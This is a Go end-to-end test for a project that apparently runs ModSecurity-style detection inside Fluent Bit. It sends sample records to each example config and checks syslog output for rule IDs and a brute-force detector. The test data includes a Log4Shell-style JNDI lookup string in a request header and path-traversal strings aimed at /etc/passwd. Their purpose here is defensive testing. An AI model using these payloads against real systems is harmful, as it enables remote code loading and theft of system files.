package e2e

import (
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modsecurity-for-anylog/msa/test/rig"
)

// Every example runs, and an attack that is sent to it comes out of its syslog.
func TestExamples(t *testing.T) {
	if _, ok := rig.FluentBit(); !ok {
		t.Skip("no Fluent Bit: set $FLUENT_BIT or PATH")
	}
	shop := []byte(`{"ts":1717053408.9,"req":{"verb":"POST","target":"/login?x=1","hdr":["${jndi:ldap://10.9.9.9/a}"]},"peer":"10.0.0.7","body":"a=b"}`)
	refused := []byte(`{"SRC_IP":"10.0.0.7","DST_IP":"10.0.0.8","METHOD":"POST","URL":"/api/login","RETCODE":"401","DOMAIN":"users","FORWARD":"0.0.0.0"}`)
	for _, c := range []struct {
		file   string
		record []byte
		want   []string // each in one of the messages
	}{
		{"own-rules.conf", numbered(t, 1), []string{`"rule_id":"930100"`}},
		{"annotate.conf", numbered(t, 1), []string{"/?n=1&t=../../etc/passwd"}},
		{"threaded-processor.yaml", sample(t, "/internal/admin?t=../../etc/passwd"), []string{`"rule_id":"930100"`, `"rule_id":"100001"`}},
		{"mapping.conf", shop, []string{`"src_ip":"10.0.0.7"`}},
		{"access-log.conf", nil, []string{`"preset":"nginx"`}},
		{"lateral-movement.conf", refused, []string{`"detector":"login-brute-force"`}},
	} {
		t.Run(c.file, func(t *testing.T) {
			config, err := os.ReadFile(filepath.Join(rig.Root(), "examples", c.file))
			if err != nil {
				t.Fatal(err)
			}
			syslog, err := net.ListenPacket("udp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer syslog.Close()
			in, dir := freePort(t), t.TempDir()
			log := filepath.Join(dir, "access.log")
			if err := os.WriteFile(log, nil, 0o600); err != nil {
				t.Fatal(err)
			}
			text := strings.NewReplacer("/var/log/nginx/access.log", log, "/var/lib/msa", dir).Replace(string(config))
			fluentBit(t, dir, rig.WithPorts(text, map[int]int{
				15155: in, 12201: syslog.LocalAddr().(*net.UDPAddr).Port, 2021: freePort(t),
			}))
			missing := map[string]bool{}
			for _, w := range c.want {
				missing[w] = true
			}
			buf := make([]byte, 64<<10)
			for end := time.Now().Add(20 * time.Second); len(missing) > 0 && time.Now().Before(end); {
				if c.record == nil {
					appendLine(t, log, `10.0.0.7 - - [20/Nov/2026:10:11:12 +0000] "GET /?t=../../etc/passwd HTTP/1.1" 200 12 "-" "curl/8.5.0"`)
				} else if conn, err := net.DialUDP("udp", nil, &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: in}); err == nil {
					_, _ = conn.Write(c.record)
					_ = conn.Close()
				}
				if err := syslog.SetReadDeadline(time.Now().Add(700 * time.Millisecond)); err != nil {
					t.Fatal(err)
				}
				n, _, err := syslog.ReadFrom(buf)
				if err != nil {
					continue
				}
				for w := range missing {
					if strings.Contains(string(buf[:n]), w) {
						delete(missing, w)
					}
				}
			}
			if len(missing) > 0 {
				t.Errorf("no message with %v", missing)
			}
		})
	}
	// An example that no case above runs is an example that nobody tried.
	files, err := filepath.Glob(filepath.Join(rig.Root(), "examples", "*.conf"))
	if err != nil || len(files) != 5 {
		t.Errorf("%d examples, %v: add a case", len(files), err)
	}
}

func appendLine(t *testing.T, file, line string) {
	t.Helper()
	f, err := os.OpenFile(file, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(line + "\n"); err != nil {
		t.Fatal(err)
	}
}
